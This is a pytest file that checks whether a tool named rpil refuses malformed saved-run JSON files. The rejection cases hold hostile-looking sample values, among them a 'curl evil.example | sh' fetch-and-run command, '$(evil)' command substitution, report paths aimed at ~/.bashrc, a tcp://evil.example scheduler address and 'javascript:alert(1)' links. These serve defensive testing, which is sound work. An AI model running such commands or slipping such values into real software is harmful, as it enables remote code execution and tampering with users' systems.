"""A run is read as it was written, and whatever else a file may hold is refused in one sentence."""

from __future__ import annotations

import json
from dataclasses import replace

import numpy as np
import pytest

from audits import make_audit
from rpil.data.errors import DataError
from rpil.data.json_files import MOST_LISTS
from rpil.faults.report import Fault, FaultReport
from rpil.inference.answers import Answers
from rpil.results import run_file
from rpil.results.html.page import Article, render_page
from rpil.results.provenance import Provenance
from rpil.results.record import Demonstrator, Interval
from rpil.results.run_file import read_run, write_run
from rpil.results.traces import TracedPart, Traces
from rpil.results.view import About, make_view


def full_view():
    """A view in which nothing is empty."""
    ids = tuple(f"d{k}" for k in range(10))
    part = TracedPart("action", 0.6, -3.0, np.arange(80.0), np.full(80, np.nan), np.ones(80))
    made = Provenance("1", "3.11", {"numpy": "2"}, "rpil audit", 0, {"x": ["a", 1, None]}, (), "2026-11-23")
    audit = make_audit(
        ids=ids,
        lengths=[80] * 10,
        traces={"d0": Traces((part,), ("up", "down") * 40)},
        provenance=made,
        pair=("d1", "d9"),
        contradicting=("d2",),
        competing=(ids[:4], ids[4:]),
        sessions=("mon",) * 5 + ("tue",) * 5,
        order=np.arange(10.0),
        doubts=("A doubt.",),
        notes=("A note.", "The two groups: differ."),
        demonstrators=(Demonstrator("ann", Interval(0.8, 0.5, 0.9), ids),),
        columns=np.random.default_rng(0).normal(size=(10, 5)),
        from_label=np.ones(10),
    )
    # The pair stays asked: answers are added to the view alone.
    finding = Fault("jump", "d3", 4, 6, "x", 1.0, 0.5, 2.0, "x leaps")
    report = FaultReport(
        (finding, replace(finding, id="gone")), {"sign": "too few"}, {}, {"lag": "2 steps"}, {}, 10, 99
    )

    about = About(
        *("Audit", "x.csv"),
        read=("Ten.",),
        lost=("A place.",),
        faults=report,
        tasks={"d0": "pour"},
        demonstrators={"d0": "ann"},
        fps=30.0,
        lerobot=True,
        hub="someone/drive",
        command="rpil audit 'my $data; x.csv'",
        seconds=1.5,
    )
    given = replace(
        audit, answers=Answers(np.arange(10) % 2, np.array([[0, 1]]), audit.answers.outcome, np.array([[2, 3]]))
    )
    view = make_view(audit, about)
    return view | {"answers": make_view(given, about)["answers"]}


@pytest.fixture(scope="module")
def view():
    return json.loads(json.dumps(full_view()))


def changed(view, path, value):
    """A deep copy of the view with another value at a path, as "demonstrations.id.0"."""
    copy = json.loads(json.dumps(view))
    *above, last = (int(key) if key.isdigit() else key for key in path.split("/"))
    place = copy
    for key in above:
        place = place[str(key) if isinstance(place, dict) else key]
    place[last] = value
    return copy


@pytest.mark.parametrize("make", [full_view, lambda: make_view(make_audit(), About("Audit", "x.csv"))])
def test_a_run_is_read_as_it_was_written(tmp_path, make):
    path = tmp_path / "run.json"
    write_run(path, make())
    assert read_run(path) == json.loads(json.dumps(make()))
    assert render_page([Article(read_run(path))]) == render_page([Article(make())])


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("title", 3),
        ("title", "x" * 30_000),
        ("seconds", "soon"),
        ("words/threshold", 1.5),
        ("sides/typical", "javascript:"),
        ("counts/typical", "5"),
        ("counts/other", 5),
        ("share/mean", None),
        ("pair", [0, 10]),
        ("pair", [0, 1, 2]),
        ("pair", []),  # of which the question asks
        ("command", "rpil audit x.csv; curl evil.example | sh"),
        ("command", "rpil audit $(evil)"),
        ("command", "rpil audit 'x"),
        ("command", "evil 'rpil audit'"),
        ("command", "rpil audit 'x\n'"),
        ("command", "rpil audit 'x\x1b[201~'"),
        ("command", "rpil audit x.csv --report /home/me/.bashrc"),
        ("command", "rpil audit x.csv --report=.bashrc"),
        ("command", "rpil audit --save x.csv y.csv"),
        ("command", "rpil audit x.csv --weights w.csv"),
        ("command", "rpil audit x.csv --scheduler tcp://evil.example:8786"),
        ("command", "rpil audit x.csv --scheduler=tcp://evil.example:8786"),
        ("command", "rpil evaluate x.py:f --env CartPole-v1"),
        ("command", "rpil keep x.csv -o x.csv"),
        ("command", "rpil"),
        ("command", "rpil audit x.csv; ~/evil"),
        ("command", "rpil audit ~/$(evil)"),
        ("contradicting", [True]),
        ("answers/0", [0]),
        ("answers/0", [-1, "good"]),
        ("demonstrations/id", []),
        ("demonstrations/id/0", ["d0"]),
        ("demonstrations/id/0", "x" * 2000),
        ("demonstrations/verdict/0", "constructor"),
        ("demonstrations/log_odds/0", 1e300),
        ("demonstrations/log_odds/0", True),
        ("demonstrations/p/0", 1.01),
        ("demonstrations/evidence", {"label": [1.0]}),
        ("demonstrations/n_steps/0", 1.5),
        ("demonstrations/worst/0", {"length": 5}),
        ("demonstrations/stretch/0", [1]),
        ("demonstrations/look/0", 5),
        ("demonstrations/look/0", 10),
        ("demonstrations/group/0", "C"),
        ("demonstrations/order", [1]),
        ("demonstrations/kept", [1] * 10),
        ("demonstrations/kept", [True]),
        ("demonstrations/facts/length", [2.0] * 10),
        ("demonstrations/more", []),
        ("whole_ids", True),
        ("whole_ids", 1),
        ("n_review", 11),
        ("demonstrators/0/counts", {}),
        ("faults", None),
        ("faults/kinds/0", {"rule": "jump"}),
        ("faults/found/demonstration/0", 10),
        ("faults/found/first", [1]),
        ("fps", 0),
        ("lerobot", "yes"),
        ("hub", "a/b/../../c"),
        ("hub", "javascript:alert(1)"),
        ("provenance", []),
        ("drawings/99", {}),
        ("drawings/0/ratio/mean", "AAAA"),
        ("drawings/0/ratio/mean", "!"),
        ("drawings/0/parts", [{}] * 20),
        ("drawings/0/taken/codes", "AAAA"),
        ("drawings/0/compared_with", "javascript:"),
        ("provenance/settings", [[[[[[[[[1]]]]]]]]]),
        ("drawings/0/trust/to", "1"),
        ("version", 1),
        ("format", "other"),
        ("more", 1),
    ],
)
def test_a_run_of_another_shape_is_refused(tmp_path, view, path, value):
    file = tmp_path / "run.json"
    file.write_text(json.dumps(changed(view, path, value)))
    with pytest.raises(DataError, match=r"run\.json: [^\n]*[^.]\.$") as refused:
        read_run(file)
    assert len(str(refused.value)) < 700


@pytest.mark.parametrize(
    "command",
    [
        "",
        "rpil audit x.csv",
        "rpil audit ~/x.csv --id trip --operator ~/who.csv",
        "rpil audit 'my $data; x.csv' --task keep --outcome -time --no-stream --only 1-3",
        "rpil audit 's3://***@bucket/x.parquet' --action steer --action accel",
    ],
)
def test_commands_that_judge_and_write_nothing_are_read(tmp_path, view, command):
    file = tmp_path / "run.json"
    file.write_text(json.dumps(view | {"command": command}))
    assert read_run(file)["command"] == command


def test_another_version_is_told(tmp_path, view):
    file = tmp_path / "run.json"
    file.write_text(json.dumps(view | {"version": 1}))
    with pytest.raises(DataError, match=r"run\.json: another version of rpil wrote it; run rpil audit --save"):
        read_run(file)


def test_a_file_of_nothing_but_lists_is_refused_before_it_takes_memory(tmp_path, view):
    file = tmp_path / "run.json"
    file.write_text(json.dumps(view)[:-1] + ', "more": [' + "[]," * (MOST_LISTS + 1) + "[]]}")
    with pytest.raises(DataError, match=r"run\.json: it holds more than 2,000,000 lists and objects; write it again\."):
        read_run(file)


@pytest.mark.parametrize(
    "content",
    [b"{", b"[]", b"3", b"\xff\xfe", b"[" * 100_000, b'{"format": "rpil run", "version": 2, "run": NaN}', b"{}" * 2],
)
def test_other_files_are_refused(tmp_path, content):
    file = tmp_path / "run.json"
    file.write_bytes(content)
    with pytest.raises(DataError, match=r"run\.json: it is no run of rpil audit --save: .*; write it again\.$"):
        read_run(file)


def test_infinite_numbers_are_refused(tmp_path, view):
    file = tmp_path / "run.json"
    file.write_text(json.dumps(changed(view, "mean_weight", 0.123456)).replace("0.123456", "1e999"))
    with pytest.raises(DataError, match="its part mean_weight is wrong"):
        read_run(file)


def test_large_files_are_not_read(tmp_path, monkeypatch):
    file = tmp_path / "run.json"
    file.write_bytes(b" " * 100)
    monkeypatch.setattr(run_file, "MAX_RUN_BYTES", 99)
    with pytest.raises(DataError, match=r"run\.json: it is longer than"):
        read_run(file)
